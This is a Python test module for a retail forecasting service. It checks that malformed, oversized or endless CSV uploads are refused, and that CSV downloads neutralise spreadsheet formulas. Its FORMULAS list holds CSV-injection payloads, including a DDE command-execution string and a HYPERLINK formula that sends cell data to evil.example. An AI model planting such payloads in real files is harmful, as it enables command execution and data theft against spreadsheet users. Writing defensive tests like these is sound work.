"""CSV files that are wrong, endless or enormous, and cells that spreadsheets take for formulas."""

import csv
import io

from world import CATEGORY, fixture

MIB = 1024 * 1024
REFUSED = {400}

KINDS = {
    "stores": b"store_id,store_name\n",
    "categories": b"category_id,category_name,season_start_date,season_end_date,season_length_weeks,archetype\n",
    "historical-sales": b"store_id,category_id,week_start_date,units_sold\n",
    "events": b"category_id,date,kind,name,value,lower_window,upper_window\n",
}

# What a spreadsheet could begin a formula with, plain and in wide characters.
FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1)', "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def refused(record, what, answer, allowed=REFUSED, detail=""):
    record.tried(what, answer, allowed, detail)
    record.held("a refusal is short", len(answer.body) < 200_000, f"{what}: {len(answer.body)} bytes")
    bad = answer.json().get("details", {}).get("bad_rows", [])
    record.held("at most 50 bad rows are listed", len(bad) <= 50, f"{what}: {len(bad)}")


def bombs(record, server, long):
    size = (60 if long else 2) * MIB
    for kind, header in KINDS.items():
        upload = lambda content: server.client.upload(kind, content)
        refused(record, "one line without an end", upload(b"a" * size))
        refused(record, "a header of that length", upload(b"a," * (size // 2)))
        refused(record, "a quote that is never closed", upload(header + b'"' + b"a\n" * (size // 2)))
        refused(record, "quotes and nothing else", upload(b'"' * size))
        refused(record, "a row of a million columns", upload(header + b"a," * 1_000_000 + b"\n"))
        refused(record, "a header of a million columns", upload(b",".join(b"c%d" % it for it in range(1_000_000)) + b"\n1\n"))
        rows = 1_000_000 if long else 20_000
        refused(record, "bad rows without number", upload(header + b"x\n" * rows))
        refused(record, "line ends and nothing else", upload(b"\n" * size))
        refused(record, "NUL and nothing else", upload(b"\0" * MIB))
        for content in (b"", b"\n", header, b"\xef\xbb\xbf", b"\xff\xfe" + header.decode().encode("utf-16-le"), b"PK\x03\x04" * 100,
                        header[:-1] + b"," + header, b"\x00" + header, header.upper().replace(b",", b";;"), header.replace(b",", b"|")):
            refused(record, "file that is none", upload(content), REFUSED, content[:40])


def cells(record, server):
    """Rows with one wrong cell: none is stored."""
    before = server.client.get("/api/stores").text
    texts = [b"\xff\xfe", b"a\0b", b"x" * 60_000, b"a" * 129, b"", b"   "]
    for text in texts:
        refused(record, "wrong id", server.client.upload("stores", b"store_id,store_name\n" + text + b",n\n"), REFUSED, text[:20])
    numbers = [b"1e400", b"NaN", b"-0", b"-1", b"inf", b"9223372036854775808", b"1.5", b"0x10", b"1_000", b"+1", b"1e3",
               "١".encode(), b"1000000001", b"00000000000000000000000000000000000001e1"]
    for number in numbers:
        row = b"S01," + CATEGORY.encode() + b",2024-12-30," + number + b"\n"
        refused(record, "wrong units", server.client.upload("historical-sales", KINDS["historical-sales"] + row), REFUSED, number)
    dates = [b"0000-01-01", b"9999-12-31", b"262143-01-01", b"2025-02-30", b"2025-13-01", b"2025-1-1", b"01/02/2025", b"+2025-01-01",
             b"-001-01-01", b"2025-01-01T00:00:00Z", "２０２５-01-01".encode()]
    for date in dates:
        row = b"S01," + CATEGORY.encode() + b"," + date + b",1\n"
        refused(record, "wrong date", server.client.upload("historical-sales", KINDS["historical-sales"] + row), REFUSED, date)
        row = CATEGORY.encode() + b"," + date + b",event,Easter,,0,0\n"
        refused(record, "wrong date of an event", server.client.upload("events", KINDS["events"] + row), REFUSED, date)
        row = b"x,X," + date + b",2025-05-26,12,STABLE_CATALOG\n"
        refused(record, "wrong date of a category", server.client.upload("categories", KINDS["categories"] + row), REFUSED, date)
    row = b"x,X,2025-03-03,2025-05-26,4294967296,STABLE_CATALOG\n"
    refused(record, "wrong season length", server.client.upload("categories", KINDS["categories"] + row))
    record.held("nothing of it is stored", server.client.get("/api/stores").text == before)


def formulas(record, server):
    """Names that are formulas come out of downloads as texts."""
    header, *rows = fixture("stores.csv").decode().splitlines()
    place = header.split(",").index("store_name")
    changed = [header]
    for number, row in enumerate(rows):
        row = row.split(",")
        row[place] = '"' + FORMULAS[number % len(FORMULAS)].replace('"', '""') + '"'
        changed.append(",".join(row))
    record.tried("formulas as names", server.client.upload("stores", "\n".join(changed)), {200})
    workflow = server.season()
    server.client.post(f"/api/workflows/{workflow['workflow_id']}/approval", {"action": "accept"})
    workflow = server.at_rest(workflow["workflow_id"])
    forecast = workflow["forecast_id"]
    week = fixture("weekly/on_track/" + week_file())
    body = server.client.upload("weekly-sales", week, [("forecast_id", forecast)])
    record.tried("a week for it", body, {200})
    for path in (
        f"/api/allocations/{forecast}?format=csv",
        f"/api/replenishments/{forecast}?week=1&format=csv",
        f"/api/seasons/{workflow['workflow_id']}/sales?format=csv",
    ):
        answer = server.client.get(path)
        record.tried("download", answer, {200})
        found = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row if cell and cell[0] in FORMULA_STARTS]
        record.held("no cell is a formula", not found, f"{path}: {found[:5]}")
    server.client.upload("stores", fixture("stores.csv"))
    return workflow


def week_file():
    from world import ROOT

    return sorted(it.name for it in (ROOT / "fixtures/weekly/on_track").iterdir())[0]
